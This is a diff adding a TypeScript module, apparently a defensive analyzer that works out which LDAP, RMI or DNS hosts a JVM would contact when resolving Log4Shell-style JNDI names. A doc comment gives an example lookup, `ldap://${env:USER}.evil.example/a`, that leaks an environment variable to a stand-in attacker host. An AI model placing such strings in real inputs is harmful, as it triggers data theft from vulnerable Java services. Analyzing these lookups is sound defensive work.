@@ -1,0 +1,55 @@
+import { type JndiTarget, readJndiName } from '../lookup/index.ts'
+
+/** A name as it would be looked up, and whom a JVM asks for it. */
+export interface Contact {
+  /** Values that are not known stand in it as they were asked for: `ldap://${env:USER}.evil.example/a`. */
+  readonly name: string
+  /** With such values in place. */
+  readonly target: JndiTarget
+  /** Why the provider that is asked refuses; `null` if it does not, or if the values decide. */
+  readonly refused: string | null
+}
+
+/** Names with a scheme that a JVM has a provider for; what names a host comes first, each once. */
+export function contactsIn(jndi: readonly string[]): readonly Contact[] {
+  return [...new Set(jndi)]
+    .filter((name) => providers.test(name))
+    .map(contactOf)
+    .sort((a, b) => Number(hasHost(b)) - Number(hasHost(a)))
+}
+
+/** The URL providers of every JDK; the scheme is case-sensitive. */
+const providers = /^(?:ldaps?|rmi|dns):/
+
+/** What a name makes a JVM do. */
+export function contactOf(name: string): Contact {
+  const values: string[] = []
+  // A value stands for some letters of a host or a path; with any at all the name can be read.
+  const readable = name.replace(/\$\{[^${}]{0,500}\}/g, (value) => {
+    values.push(value)
+    return String.fromCharCode(firstMark + (values.length % marks))
+  })
+  const target = readJndiName(readable)
+  const refused = target.is === 'nothing' ? target.because : null
+  return { name, target: values.length === 0 ? target : restored(target, values), refused }
+}
+
+/** A private use area, whose characters are letters to no parser. */
+const firstMark = 0xe000
+const marks = 6_000
+const markedValues = /[\ue000-\uf76f]/g
+
+function restored(target: JndiTarget, values: readonly string[]): JndiTarget {
+  const back = (text: string): string =>
+    text.replace(markedValues, (mark) => values[mark.charCodeAt(0) - firstMark - 1] ?? mark)
+  const orNull = (text: string | null): string | null => (text === null ? null : back(text))
+  if (target.is === 'resolver') return { ...target, path: back(target.path) }
+  if (target.is !== 'contact') return target
+  return { ...target, host: orNull(target.host), path: back(target.path), domain: orNull(target.domain) }
+}
+
+/** Whether something beyond the machine itself is asked. */
+export function hasHost({ target }: Contact): boolean {
+  if (target.is === 'contact') return target.host !== null || target.domain !== null
+  return target.is === 'resolver' && target.path !== ''
+}
